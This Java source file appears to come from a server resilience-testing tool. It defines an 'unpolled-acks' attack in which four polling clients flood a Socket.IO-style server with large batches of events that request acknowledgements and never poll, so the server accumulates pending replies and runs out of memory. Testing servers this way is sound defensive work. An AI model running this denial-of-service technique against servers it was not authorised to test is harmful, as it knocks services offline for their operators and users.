package dev.carillon.attacks.kinds;

import dev.carillon.attacks.raw.RawPolling;
import java.io.IOException;
import java.util.Collections;

/** The acknowledgements of a polling client wait in the server until the client polls. They are small, but there are many. */
final class UnpolledAcks implements Attack {
    private static final int CLIENTS = 4;
    private static final int EVENTS = 60_000;
    private static final String BODY =
            String.join(String.valueOf(RawPolling.SEPARATOR), Collections.nCopies(EVENTS, "421[\"echo\",1]"));

    @Override
    public String name() {
        return "unpolled-acks";
    }

    @Override
    public String summary() {
        return "4 polling clients post events that ask for acknowledgements, and never poll";
    }

    @Override
    public void start(Attacker attacker) {
        attacker.repeat(CLIENTS, () -> session(attacker));
    }

    private static void session(Attacker attacker) throws IOException {
        try (RawPolling client = attacker.polling()) {
            while (!attacker.isStopped()) {
                client.post(BODY);
                attacker.count();
            }
        }
    }
}
